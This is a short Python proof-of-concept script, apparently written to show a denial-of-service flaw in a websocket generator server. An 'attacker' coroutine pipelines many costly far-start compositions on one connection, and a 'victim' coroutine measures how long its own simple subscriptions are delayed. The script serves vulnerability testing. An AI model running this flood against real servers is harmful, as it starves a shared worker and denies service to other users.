"""One client's pipelined far-start compositions delay every other client's composition subscribe
(one build worker for the whole server). usage: build_queue.py WS_URL N"""
import asyncio, json, sys, time
import websockets
sys.path.insert(0, __file__.rsplit("/", 1)[0])
from seek_cost import spec  # noqa: E402  (the 16-injector composition)
async def attacker(url, n):
    async with websockets.connect(url, max_size=None, max_queue=None) as ws:
        for i in range(n):
            await ws.send(json.dumps({"type": "subscribe", "id": f"c{i}", "seed": i, "generator": spec, "start_seq": 1_900_000}))
        await asyncio.sleep(n * 1.1)
async def victim(url):
    await asyncio.sleep(0.5)
    async with websockets.connect(url) as ws:
        t = time.monotonic()
        await ws.send(json.dumps({"type": "subscribe", "id": "v", "seed": 1, "generator": {"base": {"kind": "sine"}}}))
        m = json.loads(await ws.recv())
        print("victim's simple composition:", m["type"], "after", round(time.monotonic() - t, 2), "s", flush=True)
        t = time.monotonic()
        await ws.send(json.dumps({"type": "subscribe", "id": "w", "seed": 1, "generator": "normal", "start_seq": 5}))
        while (m := json.loads(await ws.recv()))["type"] not in ("subscribed", "error"): pass
        print("victim's normal at start_seq 5:", m["type"], "after", round(time.monotonic() - t, 2), "s", flush=True)
async def main(url, n):
    await asyncio.gather(attacker(url, n), victim(url))
asyncio.run(main(sys.argv[1], int(sys.argv[2])))
